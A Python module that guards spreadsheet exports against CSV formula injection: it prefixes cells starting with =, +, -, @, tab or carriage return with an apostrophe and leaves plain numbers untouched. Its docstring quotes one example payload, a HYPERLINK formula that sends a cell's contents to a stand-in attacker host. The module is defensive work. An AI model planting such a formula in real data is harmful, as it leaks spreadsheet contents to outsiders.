"""Spreadsheet-safe cells for every CSV and ODS export (CSV/formula injection).

A spreadsheet opening a CSV (or a cell pasted from an ODS) treats text starting with ``=``,
``+``, ``-`` or ``@`` (and, in some programs, a tab or carriage return before them) as a
formula: ``=HYPERLINK("https://evil.example/?"&A1, "Click")`` from a feed or a free-text field
would run on the reader's machine. :func:`safe_cell` prefixes such text with an apostrophe,
which spreadsheets show as text. Plain numbers (``-12``, ``-1,204.50``) are left as they are, so
figures stay figures. Every export writes through :func:`csv_writer` or calls
:func:`safe_cell` per cell (``ecm.monitoring.ods``).
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"^[+-]?(\d{1,3}(,\d{3})+|\d+)(\.\d+)?$")


def safe_cell(value: Any) -> Any:
    """``value`` unchanged, unless it is text a spreadsheet would read as a formula."""
    if not isinstance(value, str) or not value.startswith(FORMULA_STARTS):
        return value
    if PLAIN_NUMBER.match(value):
        return value
    return "'" + value


def safe_row(row: Iterable[Any]) -> list[Any]:
    return [safe_cell(value) for value in row]


class SafeWriter:
    """``csv.writer`` whose every cell passes through :func:`safe_cell`."""

    def __init__(self, handle: Any, **kwargs: Any) -> None:
        self._writer = csv.writer(handle, **kwargs)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow(safe_row(row))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(handle: Any, **kwargs: Any) -> SafeWriter:
    """The CSV writer every export uses."""
    return SafeWriter(handle, **kwargs)
